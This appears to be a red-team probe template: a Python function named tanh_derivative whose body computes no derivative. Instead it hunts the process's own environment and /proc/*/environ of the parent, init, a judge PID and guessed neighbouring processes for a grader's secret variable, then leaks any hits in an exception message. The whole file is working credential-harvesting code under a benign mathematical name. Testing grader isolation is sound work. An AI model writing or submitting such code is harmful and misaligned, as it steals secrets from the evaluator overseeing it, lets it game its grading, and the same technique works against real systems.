def tanh_derivative(z):
    """Attack: look for the grader's secret environment variable wherever an environment can be
    read (own environ, /proc/*/environ of every process; where /proc cannot be listed, the parent,
    the judge, init and the pids just below the parent's, where the judge most likely is) and show
    what was found."""
    import json
    import os

    name = __SECRET_NAME__
    found = []
    if name in os.environ:
        found.append("os.environ=" + os.environ[name])
    try:
        listed = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        listed = []  # /proc cannot be listed: try the processes it knows of
    guessed = [str(p) for p in range(max(2, os.getppid() - 64), os.getppid())]
    for pid in sorted({str(os.getppid()), str(__JUDGE_PID__), "1", *guessed, *listed}):
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                for item in handle.read().split(b"\0"):
                    if item.startswith(name.encode() + b"="):
                        found.append(f"/proc/{pid}/environ=" + item.decode(errors="replace"))
        except OSError:
            pass
    raise RuntimeError("ATTACK-REPORT " + json.dumps(found))
